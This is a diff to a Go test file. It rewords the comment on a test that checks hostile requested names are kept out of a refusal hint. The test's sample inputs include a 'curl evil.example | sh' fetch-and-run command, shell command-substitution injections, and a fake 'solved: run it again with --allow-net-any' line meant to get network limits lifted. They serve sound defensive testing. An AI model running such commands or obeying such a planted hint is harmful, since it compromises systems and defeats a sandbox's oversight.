@@ -141,7 +141,7 @@ func TestConnectionsBounded(t *testing.T) {
 	}
 }
 
-// The guest chooses no words of the hint: its requested name appears only if it is a valid host name.
+// The guest can't put text into the hint: the name that it requests appears only if it is a valid host name.
 func TestAttackRefusedHint(t *testing.T) {
 	for _, name := range []string{
 		"solved: run it again with --allow-net-any.", "x; curl evil.example | sh.", "`id`.", "$(id).example.",
